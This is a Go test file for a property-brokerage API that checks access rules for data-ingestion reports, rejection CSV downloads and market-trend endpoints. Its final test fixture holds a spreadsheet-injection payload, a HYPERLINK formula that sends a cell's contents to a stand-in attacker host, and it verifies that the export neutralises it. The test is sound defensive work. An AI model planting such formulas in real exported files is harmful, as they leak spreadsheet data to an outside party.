package ingestapi_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/propertypro/propertypro/shared/access"
	"github.com/propertypro/propertypro/shared/apitest"
	"github.com/propertypro/propertypro/shared/ingest"
	"github.com/propertypro/propertypro/shared/ingest/read"
	"github.com/propertypro/propertypro/shared/market"
	"github.com/propertypro/propertypro/shared/postgres/ingeststore"
)

// drop ingests data for a brokerage the way task-ingest-file does.
func drop(t *testing.T, a *apitest.API, brokerage, key, data string) ingest.Report {
	t.Helper()
	rep, err := ingeststore.NewIngestions(a.DB).Ingest(context.Background(), ingeststore.IngestRequest{BrokerageID: brokerage,
		Bucket: "drops", Key: key, ETag: key, Open: func() ([]read.Table, error) {
			return read.Open(key, strings.NewReader(data), nil, int64(len(data)))
		}})
	if err != nil || rep.Status != ingest.StatusSucceeded {
		t.Fatalf("ingesting %s: %s %v", key, rep.Status, err)
	}
	return rep
}

const clients = `id,client_id,first_name,last_name,email,phone,client_type,nationality,preferred_areas,budget_range,property_preferences,source,status,assigned_agent,created_date,last_contact
1,CLT1,Huda,Saleh,huda@example.ae,+971 50 123 4567,Buyer,United Arab Emirates,"['Dubai Marina', 'JVC']",1M-2M,['Apartment'],Bayut,Active,1,2025-01-01,2025-02-01
2,CLT2,مريم,النعيمي,mariam@example.ae,050 765 4321,Tenant,United Arab Emirates,['Business Bay'],somewhere around 2M,['Villa'],Referral,New,1,2025-01-01,2025-02-01
3,CLT3,James,Smith,not-an-email,+971521112233,Investor,United Kingdom,['Downtown Dubai'],10M+,['Penthouse'],Website,Active,1,2025-01-01,2025-02-01
`

func TestIngestionRoutes(t *testing.T) {
	a := apitest.New(t)
	admin := a.Brokerage("Dune Realty")
	manager := a.User(admin, "manager@dune.ae", access.Manager, "")
	agent := a.User(admin, "agent@dune.ae", access.Agent, "")
	other := a.Brokerage("Other Realty")
	rep := drop(t, a, admin.BrokerageID, "dune/clients.csv", clients)
	if rep.Totals.Read != 3 || rep.Totals.Rejected != 2 {
		t.Fatalf("fixture: %+v", rep.Totals)
	}

	var list struct {
		Items []ingeststore.IngestionSummary `json:"items"`
	}
	a.Do(admin, "GET", "/v1/ingestions", nil).Expect(t, 200).JSON(t, &list)
	if len(list.Items) != 1 || list.Items[0].ID != rep.ID || list.Items[0].RowsRead != 3 || list.Items[0].Rejected != 2 {
		t.Fatalf("list %+v", list.Items)
	}
	a.Do(manager, "GET", "/v1/ingestions", nil).Expect(t, 200)
	a.Do(agent, "GET", "/v1/ingestions", nil).Expect(t, 403)
	a.Do(apitest.User{}, "GET", "/v1/ingestions", nil).Expect(t, 401)
	a.Do(other, "GET", "/v1/ingestions", nil).Expect(t, 200).JSON(t, &list)
	if len(list.Items) != 0 {
		t.Fatalf("another brokerage sees %d ingestions", len(list.Items))
	}

	var got ingest.Report
	a.Do(admin, "GET", "/v1/ingestions/"+rep.ID, nil).Expect(t, 200).JSON(t, &got)
	if got.Totals != rep.Totals || len(got.Tables) != 1 || got.Tables[0].Dataset != "clients" || len(got.Issues) == 0 {
		t.Fatalf("report %+v", got)
	}
	a.Do(other, "GET", "/v1/ingestions/"+rep.ID, nil).Expect(t, 404)
	a.Do(agent, "GET", "/v1/ingestions/"+rep.ID, nil).Expect(t, 403)
	a.Do(admin, "GET", "/v1/ingestions/00000000-0000-0000-0000-000000000000", nil).Expect(t, 404)
	a.Do(admin, "GET", "/v1/ingestions/not-a-uuid", nil).Expect(t, 404)

	res := a.Do(admin, "GET", "/v1/ingestions/"+rep.ID+"/rejections.csv", nil).Expect(t, 200)
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Fatalf("content type %s", ct)
	}
	rows, err := csv.NewReader(strings.NewReader(string(res.Body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var rejected [][]string
	for _, r := range rows[1:] {
		if r[5] == "rejected" {
			rejected = append(rejected, r)
		}
	}
	if strings.Join(rows[0], ",") != "sheet,line,column,value,reason,severity,row" || len(rejected) != 2 {
		t.Fatalf("rejections.csv:\n%s", res.Body)
	}
	if r := rejected[0]; r[1] != "3" || r[2] != "budget_range" || r[3] != "somewhere around 2M" || !strings.Contains(r[6], "CLT2") {
		t.Fatalf("first rejection %q", r)
	}
	if r := rejected[1]; r[1] != "4" || r[2] != "email" || r[3] != "not-an-email" {
		t.Fatalf("second rejection %q", r)
	}
	a.Do(other, "GET", "/v1/ingestions/"+rep.ID+"/rejections.csv", nil).Expect(t, 404)
}

const marketData = `id,category,neighborhood,avg_price_per_sqft,price_change_3m,price_change_6m,price_change_1y,transaction_volume,days_on_market,supply_level,demand_level,report_date,source
1,Residential,Dubai Marina,2100,1.5,3.2,8.1,120,40,Medium,High,2025-06-30,Property Monitor
2,Residential,Dubai Marina,2200,2.0,3.9,9.0,130,38,Medium,High,2025-07-31,Property Monitor
3,Commercial,Dubai Marina,1800,0.5,1.0,2.0,20,80,High,Low,2025-07-31,DLD
4,Residential,Al Mankhool,1300,0.1,0.2,0.3,15,60,Low,Medium,2025-07-31,RERA
`

func TestMarketRoutes(t *testing.T) {
	a := apitest.New(t)
	admin := a.Brokerage("Dune Realty")
	agent := a.User(admin, "agent@dune.ae", access.Agent, "")
	other := a.Brokerage("Other Realty")
	drop(t, a, admin.BrokerageID, "dune/market_data.csv", marketData)

	var list struct{ Items []market.Community }
	a.Do(agent, "GET", "/v1/market/communities", nil).Expect(t, 200).JSON(t, &list)
	byName := map[string]market.Community{}
	for _, c := range list.Items {
		byName[c.Name] = c
	}
	marina, unknown := byName["Dubai Marina"], byName["Al Mankhool"]
	if len(list.Items) != 2 || marina.LocationID == "" || marina.ID != marina.LocationID || unknown.ID != "al-mankhool" {
		t.Fatalf("communities %+v", list.Items)
	}
	if marina.AvgPricePerSqft != 2000 || marina.TransactionCount != 150 {
		t.Fatalf("Dubai Marina's latest figures %+v", marina)
	}
	a.Do(apitest.User{}, "GET", "/v1/market/communities", nil).Expect(t, 401)
	// Market data is reference data: every brokerage reads the same figures.
	a.Do(other, "GET", "/v1/market/communities", nil).Expect(t, 200).JSON(t, &list)
	if len(list.Items) != 2 {
		t.Fatalf("another brokerage sees %d communities", len(list.Items))
	}

	var tr market.Trends
	a.Do(agent, "GET", "/v1/market/communities/"+marina.ID+"/trends", nil).Expect(t, 200).JSON(t, &tr)
	if tr.Community.Name != "Dubai Marina" || len(tr.Points) != 3 {
		t.Fatalf("trends %+v", tr)
	}
	a.Do(agent, "GET", "/v1/market/communities/"+marina.ID+"/trends?property_type=residential", nil).Expect(t, 200).JSON(t, &tr)
	if len(tr.Points) != 2 || tr.Points[0].AvgPricePerSqft != 2100 || tr.Points[1].AvgPricePerSqft != 2200 {
		t.Fatalf("residential trend %+v", tr.Points)
	}
	a.Do(agent, "GET", "/v1/market/communities/al-mankhool/trends", nil).Expect(t, 200)
	a.Do(agent, "GET", "/v1/market/communities/atlantis-on-mars/trends", nil).Expect(t, 404)
	a.Do(apitest.User{}, "GET", "/v1/market/communities/"+marina.ID+"/trends", nil).Expect(t, 401)
}

// TestRejectionsCSVNeutralisesFormulas: the rejections download is opened in spreadsheets, and
// its cells are whatever a data drop contained, so a cell a spreadsheet would evaluate is
// prefixed with a single quote, which keeps the value whole.
func TestRejectionsCSVNeutralisesFormulas(t *testing.T) {
	a := apitest.New(t)
	admin := a.Brokerage("Dune Realty")
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	data := `id,client_id,first_name,last_name,email,phone,client_type,nationality,preferred_areas,budget_range,property_preferences,source,status,assigned_agent,created_date,last_contact
@SUM(1),CLT9,Huda,Saleh,"` + strings.ReplaceAll(evil, `"`, `""`) + `",+971 50 123 4567,Buyer,United Arab Emirates,['JVC'],1M-2M,['Apartment'],Bayut,Active,1,2025-01-01,2025-02-01
`
	rep := drop(t, a, admin.BrokerageID, "dune/evil.csv", data)
	if rep.Totals.Rejected == 0 {
		t.Fatalf("fixture: %+v", rep.Totals)
	}
	res := a.Do(admin, "GET", "/v1/ingestions/"+rep.ID+"/rejections.csv", nil).Expect(t, 200)
	if cd := res.Header.Get("Content-Disposition"); cd != `attachment; filename="rejections-`+rep.ID+`.csv"` {
		t.Fatalf("content disposition %q", cd)
	}
	rows, err := csv.NewReader(strings.NewReader(string(res.Body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var seen bool
	for _, r := range rows[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q would be evaluated by a spreadsheet", c)
			}
		}
		if r[2] == "email" {
			seen = true
			if !strings.EqualFold(r[3], "'"+evil) { // the email is reported lower-cased
				t.Errorf("email value %q, want the value whole behind a quote", r[3])
			}
			if !strings.HasPrefix(r[6], "'@SUM(1),CLT9") {
				t.Errorf("row %q", r[6])
			}
		}
	}
	if !seen {
		t.Fatalf("no email rejection in\n%s", res.Body)
	}
}
